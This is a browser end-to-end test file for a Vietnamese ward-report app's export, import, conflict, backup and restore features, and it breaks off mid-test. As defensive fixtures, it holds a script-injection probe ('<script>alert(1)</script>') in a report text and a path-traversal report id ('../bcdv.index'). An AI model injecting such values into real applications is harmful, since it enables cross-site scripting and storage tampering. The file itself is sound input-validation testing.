// File exchange, driven as ward cadres and the level above would use it:
// export a report and import it back, import twice, conflicts, a corpus of
// bad files, backup and restore, cùng kỳ from last year's report, the summary
// of many wards' files, accessibility, and hostile text in files. Every test
// asserts on localStorage as well as on the screen, has its own origin and
// browser profile, and expects zero console errors.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Ajv2020 from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import {
  markStale, freshResults, dropFiles,
  withApp, appReady, axeViolations, appStorage, outDir, repoRoot,
  until, storedDraft, storedJson, waitForDraft, field, createReport, openSection, savedChip, editorReady,
  canonical, sha256Hex,
} from '../lib/harness.mjs';

const HG = 'Hòa giải ở cơ sở';
const N01 = 'ĐẶC ĐIỂM TÌNH HÌNH';
const HG_KEYS = ['hg_tiep_nhan', 'hg_thanh', 'hg_khong_thanh'];
const fixtures = join(outDir, 'exchange');
mkdirSync(fixtures, { recursive: true });

// ---------------------------------------------------------------------------
// The published file format: JSON Schema and the checksum.

const ajv = new Ajv2020({ allErrors: true, strict: false });
addFormats(ajv);
const schemaValid = ajv.compile(JSON.parse(readFileSync(join(repoRoot, 'src/exchange/report.schema.json'), 'utf8')));

function assertSchemaValid(json, what) {
  const ok = schemaValid(json);
  assert.ok(ok, `${what} validates against report.schema.json: ${JSON.stringify(schemaValid.errors, null, 1)}`);
}


/** SHA-256 of the file without its `sha256` member, as the app computes it. */
function checksumOf(file) {
  const { sha256: _, ...content } = file;
  return sha256Hex(canonical(content));
}

/** A copy of `file` with a recomputed checksum (what a tool re-signing a file does). */
function resign(file) {
  const { sha256: _, ...content } = file;
  return { ...content, sha256: checksumOf(file) };
}

const clone = (x) => structuredClone(x);
const pretty = (json) => JSON.stringify(json, null, 2);

/** A file for setInputFiles, also written under tests/e2e/out/exchange for inspection. */
function fileOf(name, data) {
  const buffer = Buffer.isBuffer(data) ? data : Buffer.from(typeof data === 'string' ? data : pretty(data), 'utf8');
  writeFileSync(join(fixtures, name.replace(/[^\w.-]/g, '_')), buffer);
  return { name, mimeType: 'application/json', buffer };
}

/**
 * A report file for another unit / period / figures, made from a real
 * exported file: `edit(report)` changes the report; the envelope copies
 * (id, kind, period, unit, template, times) follow it; the file is re-signed.
 */
function variant(base, edit) {
  const f = clone(base);
  edit(f.report, f);
  f.reportId = f.report.id;
  f.kind = f.report.kind;
  f.period = clone(f.report.period);
  f.unit = clone(f.report.unit);
  f.template = clone(f.report.template);
  f.createdAt = f.report.created_at;
  f.updatedAt = f.report.updated_at;
  return resign(f);
}

/** Calendar bounds of a quarter, as the app stores them. */
function quarter(q, year) {
  const from = `${year}-${String(3 * q - 2).padStart(2, '0')}-01`;
  const end = new Date(Date.UTC(year, 3 * q, 0)).getUTCDate();
  return { period_type: `Q${q}`, year, from, to: `${year}-${String(3 * q).padStart(2, '0')}-${end}` };
}

const uuid = (n) => `6e0c8a7b-0000-4000-8000-${String(n).padStart(12, '0')}`;

// ---------------------------------------------------------------------------
// Sessions, downloads, imports.

/** Run `body` with a fresh origin and browser; close it; no console error, no foreign request. */
const withSession = (body, options = {}) => withApp({}, body, { ...options, setup: (s) => { s.dialogs = recordDialogs(s.page); } });

/** Record every dialog; accept confirms (the app's delete asks), dismiss anything else. */
function recordDialogs(page) {
  const seen = [];
  page.on('dialog', async (d) => {
    seen.push({ type: d.type(), message: d.message() });
    if (d.type() === 'confirm') await d.accept(); else await d.dismiss();
  });
  return seen;
}

/** Dialogs other than the app's own delete confirmation (an injected alert would show here). */
const foreignDialogs = (dialogs) => dialogs.filter((d) => !(d.type === 'confirm' && /^Xóa báo cáo «/.test(d.message)));

/** Click `trigger` and return the download as { name, bytes, text, json? }. */
async function download(page, trigger) {
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 10_000 }), trigger()]);
  const bytes = readFileSync(await dl.path());
  const name = dl.suggestedFilename();
  writeFileSync(join(fixtures, `downloaded-${name}`), bytes);
  return { name, bytes, text: bytes.toString('utf8') };
}

async function goHome(page) {
  await page.locator('header.topbar a.brand').click();
  await page.getByRole('heading', { level: 1, name: 'Báo cáo của đơn vị' }).waitFor();
}

const draftRow = (page, id) => page.locator(`li.draft[data-id="${id}"]`);
const results = (page) => page.locator('.import-results > li');

/**
 * Give `files` to the file input `name` (one setInputFiles call) and wait
 * for `expected` fresh result lines; returns [{ cls, text }].
 */
async function importFiles(page, files, { input = 'import-files', expected = files.length } = {}) {
  await markStale(page, '.import-results');
  await page.locator(`input[name="${input}"]`).setInputFiles(files);
  return freshResults(page, '.import-results', expected);
}

/** Fill the unit profile (#/don-vi) and wait for it in storage. */
async function setProfile(page, profile) {
  await page.goto(new URL('#/don-vi', page.url()).href);
  await page.getByRole('heading', { level: 1, name: 'Thông tin đơn vị' }).waitFor();
  for (const [k, v] of Object.entries(profile)) await field(page, `profile.${k}`).fill(v);
  await savedChip(page);
  await until(async () => {
    const p = await storedJson(page, 'bcdv.profile');
    return p && Object.entries(profile).every(([k, v]) => k.includes('.') || p[k] === v);
  }, { what: 'the profile in storage' });
}

/** Type hòa giải figures (current and cùng kỳ) into section N09 and wait for the save. */
async function fillHoaGiai(page, id, cur, prev) {
  await openSection(page, HG);
  for (const [i, k] of HG_KEYS.entries()) {
    if (cur) await field(page, k).fill(String(cur[i]));
    if (prev) await field(page, `cung_ky.${k}`).fill(String(prev[i]));
  }
  await waitForDraft(page, id, (e) => HG_KEYS.every((k, i) =>
    (!cur || e.report.values[k] === cur[i]) && (!prev || e.report.cung_ky[k] === prev[i])), 'the hòa giải figures in storage');
  await savedChip(page);
}

const exportButton = (page) => page.getByRole('button', { name: 'Xuất tệp', exact: true });

/** "Xuất tệp" in the open editor; returns the download with its parsed JSON. */
async function exportOpenReport(page) {
  const file = await download(page, () => exportButton(page).click());
  file.json = JSON.parse(file.text);
  // Every report file the app writes follows the published schema and checksum.
  assertSchemaValid(file.json, file.name);
  assert.equal(file.json.sha256, checksumOf(file.json), `${file.name}: sha256 of the canonical JSON`);
  assert.match(file.name, /^BCDV_[A-Za-z0-9-]+_\d{4}(Q[1-4]|H1|M9|Y)_(CQ|DANG)\.json$/, 'ASCII file name of the spec');
  return file;
}

/** Delete draft `id` from the home screen ("Xóa" + confirm). */
async function deleteDraft(page, id) {
  await draftRow(page, id).getByRole('button', { name: 'Xóa' }).click();
  await draftRow(page, id).waitFor({ state: 'detached' });
  await until(async () => (await storedDraft(page, id)) === null, { what: 'the draft removed from storage' });
}

/** Write report envelopes straight into localStorage (as drafts.rs stores them) and reload. */
async function seedReports(page, reports) {
  await page.evaluate((list) => {
    for (const r of list) {
      const summary = {
        id: r.id, name: r.name, unit: r.unit.name, kind: r.kind, period_type: r.period.period_type, year: r.period.year,
        status: r.status, progress: 0, updated_at: r.updated_at, exported_at: r.exported_at ?? null,
      };
      localStorage.setItem(`bcdv.draft.${r.id}`, JSON.stringify({
        storage_version: 1, schema_version: r.schema_version, template_id: r.template.id, template_version: r.template.version,
        revision: 1, saved_at: r.updated_at, summary, report: r,
      }));
    }
  }, reports);
  await page.reload();
  await appReady(page);
}

// ---------------------------------------------------------------------------
// One real exported file (CQ, quý III 2025, hòa giải figures), made once
// through the UI; the hand-made files of the tests are variants of it.

let baseFilePromise;
function baseFile() {
  baseFilePromise ??= (async () => {
    let out;
    await withSession(async ({ page }) => {
      await setProfile(page, { name: 'PHƯỜNG MẪU', code: 'PM' });
      const id = await createReport(page, { kind: 'CQ', period: 'Q3', year: 2025 });
      await fillHoaGiai(page, id, [13, 11, 2], [16, 12, 4]);
      await openSection(page, N01);
      await field(page, 'N01.text').fill('Tình hình nhân dân ổn định.');
      await waitForDraft(page, id, (e) => e.report.texts['N01.text'] === 'Tình hình nhân dân ổn định.');
      await savedChip(page);
      out = (await exportOpenReport(page)).json;
    });
    return out;
  })();
  return baseFilePromise;
}

// ---------------------------------------------------------------------------

test('1. round trip: "Xuất tệp" writes a schema-valid, checksummed file with an ASCII name; deleted and imported back, the report is identical and its text is shown literally', async () => {
  await withSession(async ({ page, dialogs }) => {
    await setProfile(page, { name: 'PHƯỜNG ĐÔNG HÒA 1', code: 'Đông Hòa 1' });
    const id = await createReport(page, { kind: 'CQ', period: 'Q3', year: 2025 });
    const text = 'Nhân dân phấn khởi, tin tưởng; Ủy ban đã tiếp xúc cử tri ở ấp Tân Hưng.\n<script>alert(1)</script> & "trích dẫn" — ổn định.';
    await openSection(page, N01);
    await field(page, 'N01.text').fill(text);
    await fillHoaGiai(page, id, [13, 11, 2], [16, 12, 4]);
    await waitForDraft(page, id, (e) => e.report.texts['N01.text'] === text);

    const file = await exportOpenReport(page);
    assert.equal(file.name, 'BCDV_DongHoa1_2025Q3_CQ.json');
    assert.match(file.name, /^[\x21-\x7e]+$/, 'ASCII-only file name');
    assertSchemaValid(file.json, file.name);
    assert.equal(file.json.sha256, checksumOf(file.json), 'sha256 is the SHA-256 of the canonical JSON without sha256');
    assert.equal(file.json.reportId, id);
    assert.equal(file.json.report.texts['N01.text'], text);
    assert.deepEqual(HG_KEYS.map((k) => file.json.report.values[k]), [13, 11, 2]);
    assert.deepEqual(HG_KEYS.map((k) => file.json.report.cung_ky[k]), [16, 12, 4]);
    assert.equal(file.json.report.status, 'exported');

    // The draft is marked exported, on screen and in storage; storage holds what the file holds.
    await page.locator('.editor-title .status').getByText('Đã xuất', { exact: true }).waitFor();
    const env = await waitForDraft(page, id, (e) => e.report.status === 'exported' && e.summary.exported_at, 'the export recorded');
    await savedChip(page);
    assert.deepEqual(env.report, file.json.report, 'stored draft = exported report');
    await goHome(page);
    assert.match(await draftRow(page, id).innerText(), /Đã xuất[\s\S]*Xuất tệp lúc/);

    // Delete, then import the file back.
    await deleteDraft(page, id);
    const lines = await importFiles(page, [fileOf(file.name, file.bytes)]);
    assert.equal(lines.length, 1);
    assert.match(lines[0].cls, /\bok\b/);
    assert.equal(lines[0].text, `Tệp «${file.name}»: đã nhập báo cáo «${file.json.report.name}».`);
    const back = await until(() => storedDraft(page, id), { what: 'the imported draft' });
    assert.deepEqual(back.report, file.json.report, 'imported report = the file\'s report');
    assert.equal(back.summary.status, 'exported');
    const row = draftRow(page, id);
    await row.waitFor();
    assert.match(await row.innerText(), /PHƯỜNG ĐÔNG HÒA 1 · Chính quyền · quý III năm 2025[\s\S]*Đã xuất/);

    // The editor shows the text exactly as typed; nothing in it ran.
    await row.getByRole('link', { name: 'Mở' }).click();
    await editorReady(page);
    await openSection(page, N01);
    assert.equal(await field(page, 'N01.text').inputValue(), text);
    await openSection(page, HG);
    assert.deepEqual(await Promise.all(HG_KEYS.map((k) => field(page, k).inputValue())), ['13', '11', '2']);
    assert.deepEqual(await Promise.all(HG_KEYS.map((k) => field(page, `cung_ky.${k}`).inputValue())), ['16', '12', '4']);
    assert.equal(await page.locator('script:not([src])').count(), 0, 'no inline script element in the DOM');
    assert.deepEqual(foreignDialogs(dialogs), [], 'no dialog other than the delete confirmation');
    assert.equal(dialogs.length, 1, 'exactly one confirm (the delete)');
  });
});

test('2. importing the same file again changes nothing (storage byte-identical, "đã có sẵn"), also right after exporting it', async () => {
  const base = await baseFile();
  await withSession(async ({ page }) => {
    const f = fileOf('BCDV_PM_2025Q3_CQ.json', base);
    const first = await importFiles(page, [f]);
    assert.match(first[0].cls, /\bok\b/);
    assert.match(first[0].text, /đã nhập báo cáo/);
    const stored = await storedDraft(page, base.reportId);
    assert.deepEqual(stored.report, base.report);
    const before = await appStorage(page);

    const second = await importFiles(page, [f]);
    assert.equal(second.length, 1);
    assert.match(second[0].cls, /\bok\b/);
    assert.equal(second[0].text, `Tệp «${f.name}»: báo cáo «${base.report.name}» đã có sẵn, không có gì thay đổi.`);
    assert.deepEqual(await appStorage(page), before, 'storage byte-identical after the second import');
    // A third time by drag and drop: still nothing.
    const third = await dropFiles(page, '.import-results', [f]);
    assert.match(third[0].text, /đã có sẵn/);
    assert.deepEqual(await appStorage(page), before, 'storage byte-identical after dropping it again');
    assert.equal(await page.locator('li.draft').count(), 1, 'one draft listed');
    assert.equal((await storedJson(page, 'bcdv.index')).drafts.length, 1);

    // The file a draft was just exported to is that draft: importing it is a no-op too.
    await page.locator('li.draft').getByRole('link', { name: 'Mở' }).click();
    await editorReady(page);
    await openSection(page, N01);
    await field(page, 'N01.text').fill('Đã sửa sau khi nhập.');
    await waitForDraft(page, base.reportId, (e) => e.report.texts['N01.text'] === 'Đã sửa sau khi nhập.');
    await savedChip(page);
    const exported = await exportOpenReport(page);
    await waitForDraft(page, base.reportId, (e) => e.report.exported_at === exported.json.report.exported_at, 'the new export time stored');
    await savedChip(page);
    await goHome(page);
    const afterExport = await appStorage(page);
    const again = await importFiles(page, [fileOf(exported.name, exported.bytes)]);
    assert.match(again[0].text, /đã có sẵn, không có gì thay đổi/);
    assert.deepEqual(await appStorage(page), afterExport, 'importing the file just exported changes nothing');
  });
});

test('3. a changed version of a stored report asks what to do: "Bỏ qua" keeps storage, "Giữ cả hai" adds a "(bản nhập)" copy, "Thay bằng bản trong tệp" stores the file', async () => {
  const base = await baseFile();
  await withSession(async ({ page }) => {
    await importFiles(page, [fileOf('goc.json', base)]);
    const original = await storedDraft(page, base.reportId);
    const changed = variant(base, (r) => {
      r.texts['N01.text'] = 'Bản do cấp trên sửa: tình hình có chuyển biến.';
      r.values.hg_thanh = 10;
      r.values.hg_khong_thanh = 3;
      r.updated_at = '2025-10-20T02:00:00Z';
    });
    const f = fileOf('BCDV_PM_2025Q3_CQ (sửa).json', changed);
    const conflictRow = page.locator('.import-results > li.conflict');

    // 1) Bỏ qua.
    let before = await appStorage(page);
    let lines = await importFiles(page, [f]);
    assert.equal(lines.length, 1);
    assert.match(lines[0].cls, /\bconflict\b/);
    assert.match(lines[0].text, new RegExp(`^Tệp «${f.name.replace(/[()]/g, '\\$&')}»: trên máy đã có báo cáo «${base.report.name}» \\(lưu lúc \\d{2}/\\d{2}/\\d{4} \\d{2}:\\d{2}\\) khác với bản trong tệp`));
    assert.deepEqual(await appStorage(page), before, 'nothing stored while the question is open');
    await conflictRow.getByRole('button', { name: 'Bỏ qua' }).click();
    await page.locator('.import-results > li.ok', { hasText: 'đã bỏ qua, giữ nguyên bản trên máy' }).waitFor();
    assert.equal(await conflictRow.count(), 0);
    assert.deepEqual(await appStorage(page), before, 'skip: storage byte-identical');

    // 2) Giữ cả hai.
    lines = await importFiles(page, [f]);
    assert.match(lines[0].cls, /\bconflict\b/);
    await conflictRow.getByRole('button', { name: 'Giữ cả hai' }).click();
    await page.locator('.import-results > li.ok', { hasText: 'đã nhập báo cáo' }).waitFor();
    const index = await until(async () => {
      const i = await storedJson(page, 'bcdv.index');
      return i.drafts.length === 2 ? i : null;
    }, { what: 'two drafts in the index' });
    const copyId = index.drafts.map((d) => d.id).find((x) => x !== base.reportId);
    assert.match(copyId, /^[0-9a-f-]{36}$/);
    assert.deepEqual((await storedDraft(page, base.reportId)).report, original.report, 'keep both: the stored report is untouched');
    const copy = (await storedDraft(page, copyId)).report;
    assert.equal(copy.name, `${base.report.name} (bản nhập)`);
    assert.deepEqual({ ...copy, id: changed.report.id, name: changed.report.name }, changed.report, 'the copy is the file\'s report under a new id and name');
    await draftRow(page, copyId).getByText(`${base.report.name} (bản nhập)`).waitFor();
    await draftRow(page, base.reportId).getByText(base.report.name, { exact: true }).waitFor();
    assert.equal(await page.locator('li.draft').count(), 2);

    // 3) Thay bằng bản trong tệp.
    before = await appStorage(page);
    lines = await importFiles(page, [f]);
    assert.match(lines[0].cls, /\bconflict\b/);
    await conflictRow.getByRole('button', { name: 'Thay bằng bản trong tệp' }).click();
    await page.locator('.import-results > li.ok', { hasText: 'đã nhập báo cáo' }).waitFor();
    const replaced = await waitForDraft(page, base.reportId, (e) => e.report.values.hg_thanh === 10, 'the replaced draft');
    assert.deepEqual(replaced.report, changed.report, 'replace: the stored report is the file\'s');
    assert.equal(replaced.revision, original.revision + 1);
    assert.deepEqual((await storedJson(page, `bcdv.draft.${base.reportId}.prev`)).report, original.report, 'the replaced version is kept as .prev');
    assert.equal((await storedDraft(page, copyId)).report.name, `${base.report.name} (bản nhập)`, 'the copy is untouched');
    assert.equal(before[`bcdv.draft.${copyId}`], (await appStorage(page))[`bcdv.draft.${copyId}`]);
    // The editor opens the replaced version.
    await draftRow(page, base.reportId).getByRole('link', { name: 'Mở' }).click();
    await editorReady(page);
    await openSection(page, N01);
    assert.equal(await field(page, 'N01.text').inputValue(), 'Bản do cấp trên sửa: tình hình có chuyển biến.');
    // Importing it once more: identical now, no question.
    await goHome(page);
    const after = await appStorage(page);
    lines = await importFiles(page, [f]);
    assert.match(lines[0].text, /đã có sẵn/);
    assert.deepEqual(await appStorage(page), after);
  });
});

/** A backup file (backup.rs layout) of `reports` and `profile`, signed. */
function backupOf(reports, profile, createdAt = '2025-12-01T01:02:03Z') {
  return resign({ schema: 'danvan-backup', schemaVersion: 1, appVersion: '0.1.0', createdAt, profile, reports });
}

/** [file name, content (JSON, text or bytes), what the message must say]. */
function badCorpus(base) {
  const edit = (fn) => variant(base, fn);
  const half = pretty(base);
  return [
    ['khong-phai-json.json', 'Đây là biên bản họp, không phải JSON.', /không phải tệp dữ liệu JSON \(dòng 1, cột \d+\)/],
    ['bi-cat-cut.json', half.slice(0, Math.floor(half.length / 2)), /tệp bị cắt cụt/],
    ['rong.json', '', /tệp rỗng/],
    ['chi-co-khoang-trang.json', '  \n\t ', /tệp rỗng/],
    ['khong-phai-utf8.json', Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]), /không phải văn bản UTF-8/],
    ['mang-rong.json', '[]', /không phải tệp báo cáo Dân vận \(loại tệp «không rõ»\)/],
    ['sai-loai-tep.json', resign({ ...clone(base), schema: 'danvan-baocao' }), /không phải tệp báo cáo Dân vận \(loại tệp «danvan-baocao»\)/],
    ['phien-ban-moi.json', resign({ ...clone(base), schemaVersion: 3 }), /phiên bản mới hơn của ứng dụng \(định dạng 3, ứng dụng này đọc đến 2\)/],
    ['thieu-ma-kiem-tra.json', (({ sha256: _, ...rest }) => rest)(base), /thiếu mã kiểm tra \(sha256\)/],
    ['sua-tay.json', (() => { const f = clone(base); f.report.values.hg_thanh = 12; return f; })(), /mã kiểm tra không khớp/],
    ['thieu-report.json', resign((({ report: _, ...rest }) => rest)(base)), /không đúng cấu trúc báo cáo \(thiếu phần report\)/],
    // A file of an outline this device lacks (another id, a newer version)
    // is no longer refused: it is kept read-only until the outline is
    // loaded (issue 17; 17-outlines-exchange.test.mjs). A merge still sets it aside.
    ['sai-loai-bao-cao.json', edit((r) => { r.kind = 'MTTQ'; }), /không đúng cấu trúc báo cáo \(.*MTTQ/],
    ['so-dang-chu.json', edit((r) => { r.values.hg_thanh = '11'; }), /giá trị không hợp lệ ở «hg_thanh»: cần một số, tệp ghi «11»/],
    ['so-am.json', edit((r) => { r.values.hg_tiep_nhan = -13; }), /giá trị không hợp lệ ở «hg_tiep_nhan»: số âm \(-13\)/],
    ['so-le.json', edit((r) => { r.values.hg_thanh = 10.5; }), /giá trị không hợp lệ ở «hg_thanh»: cần một số/],
    ['so-qua-lon.json', edit((r) => { r.values.hg_thanh = 1e18; }), /giá trị không hợp lệ ở «hg_thanh»: số quá lớn/],
    ['cung-ky-am.json', edit((r) => { r.cung_ky.hg_thanh = -2; }), /hg_thanh»: số âm \(-2\)/],
    ['chi-tieu-la.json', edit((r) => { r.values.chi_tieu_bia = 5; }), /«chi_tieu_bia»: chỉ tiêu không có trong đề cương/],
    ['muc-viet-la.json', edit((r) => { r.texts['N99.text'] = 'Mục không có'; }), /«N99\.text»: mục viết không có trong đề cương/],
    ['van-ban-qua-dai.json', edit((r) => { r.texts['N01.text'] = 'ẩ'.repeat(200_001); }), /«N01\.text»: văn bản dài quá 200000 ký tự/],
    ['nam-sai.json', edit((r) => { r.period = { ...r.period, year: 1899 }; }), /«period\.year»: năm 1899 nằm ngoài 1990–2100/],
    ['ma-bao-cao-sai.json', edit((r) => { r.id = '../bcdv.index'; }), /«reportId»: mã báo cáo không hợp lệ/],
    ['o-danh-sach-sai.json', edit((r) => { r.lists.hoi_quan_ds = [{ ten: 'Hội quán Ấp 1', thanh_vien: 'bốn mươi' }]; }), /«hoi_quan_ds\.0\.thanh_vien»: cần một số, tệp ghi «bốn mươi»/],
    ['cot-la.json', edit((r) => { r.lists.hoi_quan_ds = [{ ten: 'Hội quán Ấp 1', so_dien_thoai: '0909' }]; }), /«hoi_quan_ds\.0\.so_dien_thoai»: cột không có trong danh sách/],
    ['danh-sach-la.json', edit((r) => { r.lists.ds_bia = []; }), /«ds_bia»: danh sách không có trong đề cương/],
    ['qua-lon.json', Buffer.alloc(5 * 1024 * 1024 + 1, 0x20), /tệp quá lớn \(5[.,]0 MB; tối đa 5 MB\)/],
    // A restore takes every valid part of a backup (issue 12): this one holds only a bad report.
    ['sao-luu-hong.json', backupOf([(() => { const r = clone(base.report); r.id = uuid(99); r.values.hg_thanh = -5; return r; })()], {}), /báo cáo «.*» không khôi phục được \(giá trị không hợp lệ ở «hg_thanh»: số âm \(-5\)\)/],
    ['sao-luu-moi-hon.json', resign({ ...backupOf([base.report], { code: 'P9' }), schemaVersion: 3 }), /phiên bản mới hơn của ứng dụng \(định dạng 3/],
    ['Báo cáo phường 3 – sửa tay.json', (() => { const f = clone(base); f.report.texts['N01.text'] = 'Sửa tay'; return f; })(), /mã kiểm tra không khớp/],
  ];
}

test('4. a corpus of bad files (picker, one by one, drag and drop): each is refused with its own Vietnamese message naming the file, and storage is byte-identical', async () => {
  const base = await baseFile();
  const corpus = badCorpus(base);
  assert.ok(corpus.length >= 20);
  // The faults the published schema can see make the hand-made files invalid
  // there too (the corpus is wrong in the way it claims to be).
  for (const name of ['sai-loai-tep.json', 'so-le.json', 'nam-sai.json', 'ma-bao-cao-sai.json', 'sai-loai-bao-cao.json']) {
    const json = corpus.find(([n]) => n === name)[1];
    assert.equal(schemaValid(json), false, `${name} is invalid against the schema`);
  }
  await withSession(async ({ page }) => {
    // Something stored already (a report, no unit profile) so "unchanged" means something.
    const ok = variant(base, (r) => { r.id = uuid(1); });
    await importFiles(page, [fileOf('da-co.json', ok)]);
    await draftRow(page, uuid(1)).waitFor();
    const before = await appStorage(page);
    assert.ok(Object.keys(before).length >= 2);

    const files = corpus.map(([name, data, why]) => ({ ...fileOf(name, data), why }));
    const check = (lines, batch) => {
      assert.equal(lines.length, batch.length, `one line per file: ${JSON.stringify(lines, null, 1)}`);
      for (const f of batch) {
        const mine = lines.filter((l) => l.text.includes(`«${f.name}»`));
        assert.equal(mine.length, 1, `exactly one line names «${f.name}»: ${JSON.stringify(lines.map((l) => l.text.slice(0, 200)))}`);
        assert.match(mine[0].cls, /\berror\b/, `${f.name} is shown as an error`);
        assert.ok(mine[0].text.startsWith(`Tệp «${f.name}»: `), `${f.name}: message starts with the file name: ${mine[0].text.slice(0, 200)}`);
        assert.match(mine[0].text, f.why, `${f.name}: the reason`);
        assert.ok(mine[0].text.length < 400, `${f.name}: a short message, not the file echoed back`);
      }
    };
    const oneByOne = ['rong.json', 'qua-lon.json', 'khong-phai-utf8.json', 'sua-tay.json'];
    const dropped = ['sai-loai-tep.json', 'Báo cáo phường 3 – sửa tay.json', 'o-danh-sach-sai.json'];
    const batch = files.filter((f) => !oneByOne.includes(f.name) && !dropped.includes(f.name));
    check(await importFiles(page, batch.map(({ why: _, ...f }) => f)), batch);
    assert.deepEqual(await appStorage(page), before, 'storage unchanged after the batch');
    for (const name of oneByOne) {
      const f = files.find((x) => x.name === name);
      check(await importFiles(page, [{ name: f.name, mimeType: f.mimeType, buffer: f.buffer }]), [f]);
      assert.deepEqual(await appStorage(page), before, `storage unchanged after ${name}`);
    }
    const drop = files.filter((f) => dropped.includes(f.name));
    check(await dropFiles(page, '.import-results', drop), drop);
    assert.deepEqual(await appStorage(page), before, 'storage unchanged after the drop');

    // A good file among bad ones is still imported, and only it.
    const good = variant(base, (r) => { r.id = uuid(2); });
    const mixed = await importFiles(page, [files[0], fileOf('tot.json', good), files[1]].map(({ why: _, ...f }) => f));
    assert.deepEqual(mixed.map((l) => /\bok\b/.test(l.cls)), [false, true, false]);
    await draftRow(page, uuid(2)).waitFor();
    const after = await appStorage(page);
    assert.deepEqual(Object.keys(after).filter((k) => !(k in before)), [`bcdv.draft.${uuid(2)}`]);
    assert.equal(await page.locator('li.draft').count(), 2);
  });
});

/** Today's date in the tablet's time zone as YYYYMMDD. */
const localDate = () => new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Ho_Chi_Minh' }).format(new Date()).replaceAll('-', '');

test('5. "Sao lưu tất cả" saves every draft and the unit profile; after clearing storage, importing the backup restores them identically, and a second import changes nothing', async () => {
  await withSession(async ({ page }) => {
    await setProfile(page, { name: 'PHƯỜNG 7', code: 'P7', place: 'Phường 7', 'cq.ho_ten': 'Nguyễn Văn Ân' });
    const a = await createReport(page, { kind: 'CQ', period: 'Q3', year: 2025 });
    await fillHoaGiai(page, a, [13, 11, 2], [16, 12, 4]);
    await openSection(page, N01);
    await field(page, 'N01.text').fill('Nhân dân đồng thuận cao.');
    await waitForDraft(page, a, (e) => e.report.texts['N01.text'] === 'Nhân dân đồng thuận cao.');
    await savedChip(page);
    const b = await createReport(page, { kind: 'DANG', period: 'H1', year: 2026 });
    await openSection(page, 'TÌNH HÌNH NHÂN DÂN');
    await field(page, 'N01.text').fill('Đảng bộ lãnh đạo toàn diện; ấp Hòa Khánh ổn định.');
    await waitForDraft(page, b, (e) => e.report.texts['N01.text']?.startsWith('Đảng bộ'));
    await savedChip(page);
    await goHome(page);
    const before = await appStorage(page);
    const reportsBefore = { [a]: JSON.parse(before[`bcdv.draft.${a}`]).report, [b]: JSON.parse(before[`bcdv.draft.${b}`]).report };

    const file = await download(page, () => page.getByRole('button', { name: 'Sao lưu tất cả' }).click());
    assert.equal(file.name, `BCDV_SaoLuu_P7_${localDate()}.json`);
    await page.locator('.import-results > li.ok', { hasText: 'Đã tạo tệp sao lưu gồm 2 báo cáo và thông tin đơn vị.' }).waitFor();
    const backup = JSON.parse(file.text);
    assert.equal(backup.schema, 'danvan-backup');
    assert.equal(backup.schemaVersion, 1);
    assert.equal(backup.sha256, checksumOf(backup), 'the backup carries a valid checksum');
    assert.deepEqual(backup.profile, JSON.parse(before['bcdv.profile']));
    assert.deepEqual(Object.fromEntries(backup.reports.map((r) => [r.id, r])), reportsBefore, 'every draft, as stored');
    assert.deepEqual(await appStorage(page), before, 'making a backup changes nothing');

    // The tablet is wiped.
    await page.evaluate(() => localStorage.clear());
    await page.reload();
    await appReady(page);
    await page.getByText('Chưa có báo cáo nào').waitFor();

    const lines = await importFiles(page, [fileOf(file.name, file.bytes)], { expected: 3 });
    assert.deepEqual(lines.map((l) => l.text).sort(), [
      `Tệp «${file.name}»: đã khôi phục thông tin đơn vị.`,
      `Tệp «${file.name}»: đã nhập báo cáo «${reportsBefore[a].name}».`,
      `Tệp «${file.name}»: đã nhập báo cáo «${reportsBefore[b].name}».`,
    ].sort());
    assert.ok(lines.every((l) => /\bok\b/.test(l.cls)));
    const restored = await appStorage(page);
    assert.equal(restored['bcdv.profile'], before['bcdv.profile'], 'profile restored byte for byte');
    for (const id of [a, b]) {
      const env = JSON.parse(restored[`bcdv.draft.${id}`]);
      assert.deepEqual(env.report, reportsBefore[id], `draft ${id} restored identically`);
      const old = JSON.parse(before[`bcdv.draft.${id}`]).summary;
      for (const k of ['name', 'unit', 'kind', 'period_type', 'year', 'status', 'progress']) assert.equal(env.summary[k], old[k], `summary.${k}`);
    }
    await draftRow(page, a).waitFor();
    await draftRow(page, b).waitFor();
    assert.match(await draftRow(page, b).innerText(), /PHƯỜNG 7 · Đảng · 6 tháng đầu năm 2026/);

    // Again: nothing changes.
    const again = await importFiles(page, [fileOf(file.name, file.bytes)], { expected: 2 });
    assert.ok(again.every((l) => /đã có sẵn, không có gì thay đổi/.test(l.text)), JSON.stringify(again));
    assert.deepEqual(await appStorage(page), restored, 'second restore: storage byte-identical');

    // The restored profile and drafts work: the profile screen shows it, the editor opens the draft.
    await page.goto(new URL('#/don-vi', page.url()).href);
    assert.equal(await field(page, 'profile.cq.ho_ten').inputValue(), 'Nguyễn Văn Ân');
    await page.goto(new URL(`#/bao-cao/${a}`, page.url()).href);
    await editorReady(page);
    await openSection(page, HG);
    assert.deepEqual(await Promise.all(HG_KEYS.map((k) => field(page, k).inputValue())), ['13', '11', '2']);
  });
});

test('6. "Lấy số liệu cùng kỳ" fills cùng kỳ from last year\'s report of the same period (stored or from a file) and refuses another period or year with the reason', async () => {
  await withSession(async ({ page }) => {
    await setProfile(page, { name: 'XÃ TÂN KHÁNH ĐÔNG', code: 'TKD' });
    const q3of2025 = await createReport(page, { kind: 'CQ', period: 'Q3', year: 2025 });
    await fillHoaGiai(page, q3of2025, [13, 11, 2], null);
    const fileQ3 = await exportOpenReport(page);
    const q2of2025 = await createReport(page, { kind: 'CQ', period: 'Q2', year: 2025 });
    await fillHoaGiai(page, q2of2025, [5, 4, 1], null);
    const fileQ2 = await exportOpenReport(page);
    const q3of2024 = await createReport(page, { kind: 'CQ', period: 'Q3', year: 2024 });
    await fillHoaGiai(page, q3of2024, [9, 9, 0], null);
    const dang = await createReport(page, { kind: 'DANG', period: 'Q3', year: 2025 });
    assert.ok(dang);

    const current = await createReport(page, { kind: 'CQ', period: 'Q3', year: 2026 });
    const picker = page.locator('.cung-ky-picker');
    const notice = picker.locator('.notice');
    await picker.getByRole('button', { name: 'Lấy số liệu cùng kỳ' }).click();
    await picker.getByText('Chọn báo cáo quý III năm 2025 (cùng loại, cùng kỳ, năm trước)').waitFor();
